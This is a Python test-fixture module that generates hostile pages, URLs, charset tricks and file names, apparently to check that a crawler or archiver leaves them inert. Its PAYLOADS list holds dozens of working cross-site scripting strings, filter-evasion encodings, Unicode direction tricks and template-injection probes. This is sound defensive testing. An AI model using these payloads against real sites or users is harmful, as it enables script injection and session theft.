"""What a hostile document, file name or query says, in every place where it can say it.

Each vector has a number of its own, `v0042`, so that it can be told which of them a page has shown. Whatever gets
through shows itself: as a dialog, as a request to elsewhere, as a flag on the page, or as an element or attribute.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from typing import NamedTuple
from urllib.parse import quote

OUTSIDE = "http://127.0.0.1:9/"
"""Nobody listens there, and nothing may ask."""
FLAG = "document.documentElement.dataset.planted='{0}',alert('{0}')"
WORD = "sargasso"
"""What every hostile document says, so that one search finds them all."""

# {0} is the number, {1} what raises the flag.
PAYLOADS = (
    "<script>{1}</script>{0}", "\"><script>{1}</script>{0}", "'><script>{1}</script>{0}",
    "</title><script>{1}</script>{0}", "</textarea><script>{1}</script>{0}", "--><script>{1}</script>{0}",
    "]]><script>{1}</script>{0}", "<scr<script>ipt>{1}</scr</script>ipt>{0}",
    "<SCRIPT SRC=" + OUTSIDE + "{0}></SCRIPT>{0}", "<img src=x onerror=\"{1}\">{0}",
    "\"><img src=" + OUTSIDE + "{0} onload=\"{1}\">{0}", "\" onfocus=\"{1}\" autofocus=\"{0}",
    "' onmouseover='{1}' x='{0}", "` onload=`{1}` {0}", "<svg onload=\"{1}\">{0}</svg>",
    "<svg><script>{1}</script>{0}", "<svg><animate onbegin=\"{1}\" attributeName=x dur=1s>{0}",
    "<math><mi xlink:href=\"javascript:{1}\">{0}</mi></math>", "<iframe src=\"javascript:{1}\">{0}</iframe>",
    "<iframe srcdoc=\"<script>{1}</script>\">{0}</iframe>", "<object data=\"javascript:{1}\">{0}</object>",
    "<embed src=\"" + OUTSIDE + "{0}\">{0}", "<base href=\"" + OUTSIDE + "\">{0}",
    "<meta http-equiv=refresh content=\"0;url=" + OUTSIDE + "{0}\">{0}",
    "<link rel=stylesheet href=\"" + OUTSIDE + "{0}\">{0}",
    "<style>*{{background:url(" + OUTSIDE + "{0})}}</style>{0}", "<a href=\"javascript:{1}\">{0}</a>",
    "<a href=\"data:text/html,<script>{1}</script>\">{0}</a>",
    "<form action=\"" + OUTSIDE + "\"><button>{0}</button></form>", "<input autofocus onfocus=\"{1}\">{0}",
    "<details open ontoggle=\"{1}\">{0}</details>", "<video><source onerror=\"{1}\">{0}</video>",
    "<body onload=\"{1}\">{0}", "<x-{0} tabindex=1 onclick=\"{1}\">{0}</x-{0}>",
    "<noscript><p title=\"</noscript><img src=x onerror={1}>\">{0}", "javascript:{1}//{0}",
    "JaVaScRiPt&colon;{1}//{0}", "java\tscript:{1}//{0}", "data:text/html;base64,PHNjcmlwdD4={0}",
    "vbscript:msgbox({0})", "{{{{ 7*191 }}}}{0}", "{{% for x in range(9) %}}{0}{{% endfor %}}", "${{7*191}}{0}",
    "#{{7*191}}{0}", "<%= 7*191 %>{0}", "{{{{ ''.__class__.__mro__ }}}}{0}", "&lt;script&gt;{1}&lt;/script&gt;{0}",
    "&#60;script&#62;{1}&#60;/script&#62;{0}", "%3Cscript%3E{1}%3C/script%3E{0}",
    "+ADw-script+AD4-{1}+ADw-/script+AD4-{0}", "\u202e<script>{1}</script>{0}\u202c", "\u2066{0}\u202etxt.exe",
    "\u200f\u202b{0} <b>x</b>", "\u0000<script>{1}</script>{0}", "\ufeff<img src=x onerror={1}>{0}",
    "\uff1cscript\uff1e{1}\uff1c/script\uff1e{0}", "\u2028<script>{1}</script>\u2029{0}",
    "</p></main></body></html><script>{1}</script>{0}",
)  # fmt: skip


class Vector(NamedTuple):
    """A hostile page: the first number on it, its path, its bytes, and the charset that its header names, if any."""

    number: str
    path: str
    body: bytes
    charset: str = "utf-8"


def said(payload: str, number: str) -> str:
    """A payload with its number in it."""
    return payload.format(number, FLAG.format(number))


def numbered(first: int) -> Iterator[tuple[str, str]]:
    """Every payload with a number of its own, from this one on."""
    for at, payload in enumerate(PAYLOADS, first):
        number = f"v{at:04}"
        yield number, said(payload, number)


def _page(number: str, title: str, head: str = "", body: str = "") -> bytes:
    body += f"<p>{WORD} {number}</p>"
    return f"<!DOCTYPE html><html><head><title>{title}</title>{head}</head><body>{body}</body></html>".encode()


def _texts() -> Iterator[Vector]:
    """In the title (v0000 on), in words, headings and anchors (v0100 on), in what only attributes say (v0200 on)."""
    for (number, title), (_, text), (_, value) in zip(numbered(0), numbered(100), numbered(200), strict=True):
        title, text, value = escape(title), escape(text), escape(value)
        names = ("author", "description", "keywords", "date")
        metas = "".join(f'<meta name="{name}" content="{value}">' for name in names)
        metas += f'<meta property="og:title" content="{value}"><meta property="og:image" content="{value}">'
        words = f"<h1>{text}</h1><p>{WORD} {text}</p><p><a href='/anchor/{number}'>{text}</a></p>"
        words += f'<p lang="{value}" title="{value}" class="{value}"><img alt="{value}"></p>'
        yield Vector(number, f"/said/{number}", _page(number, title, metas, words))


def _markup() -> Iterator[Vector]:
    """As markup of the page itself, which a kept copy must not let do anything (v0800 on)."""
    for number, payload in numbered(800):
        yield Vector(number, f"/markup/{number}", _page(number, f"Markup {number}", body=f"<p>{payload}</p>"))


def _addresses() -> Iterator[Vector]:
    """In the address: as a step of the path, and as a query."""
    for number, payload in numbered(300):
        path = (
            f"/path/{quote(payload, safe='')}"
            if int(number[1:]) % 2
            else f"/query/{number}?q={quote(payload, safe='')}"
        )
        yield Vector(number, path, _page(number, f"Address {number}"))


def _charsets() -> Iterator[Vector]:
    """In bytes that are markup in one charset and text in another."""
    script = "<script>" + FLAG.format("charset") + "</script>"
    tricks = (
        ("utf-7", script.encode("utf-7"), "utf-7"), ("utf-7", script.encode("utf-7"), ""),
        ("iso-2022-jp", b"\x1b$B" + script.encode() + b"\x1b(B", "iso-2022-jp"),
        ("shift_jis", b"\x83<b>\x83" + script.encode(), "shift_jis"),
        ("gbk", b"\x81<img src=x onerror=alert(1)>", "gbk"),
        ("utf-16", b"\xc0\xbcscript\xc0\xbe" + script.encode(), "utf-8"), ("big5", b"\xa1<script>\xa1", "big5"),
        ("hz", b"~{<script>~}", "hz-gb-2312"), ("utf-8", b"\xf8\x80\x80\x80\xbcscript>", "utf-8"),
        ("x-user-defined", b"\xbcscript\xbe" + escape(script).encode(), "x-user-defined"),
        ("replacement", script.encode(), "replacement"),
    )  # fmt: skip
    for at, (name, trick, charset) in enumerate(tricks, 400):
        number = f"v{at:04}"
        head = f'<meta charset="{name}"><title>Charset {number} '.encode()
        text = trick.replace(b"<", b"&lt;") if b"\x1b" not in trick else trick
        body = (
            b"<html><head>" + head + text + f"</title></head><body><p>{WORD} {number} ".encode() + text + b"</p></body>"
        )
        yield Vector(number, f"/charset/{number}", body, charset)


VECTORS = (*_texts(), *_addresses(), *_charsets(), *_markup())
MOST_NAME = 200
COUNT = len(VECTORS) + 2 * len(PAYLOADS)
"""Vectors on the site, three in one document where they are text."""
NAMES = tuple(
    (number, f"{payload[:MOST_NAME]}.txt".replace("/", "\u2215").replace("\0", ""))
    for number, payload in numbered(500)
    if len(payload.encode()) < MOST_NAME
)
"""Names of files, which hold no slash and no NUL."""
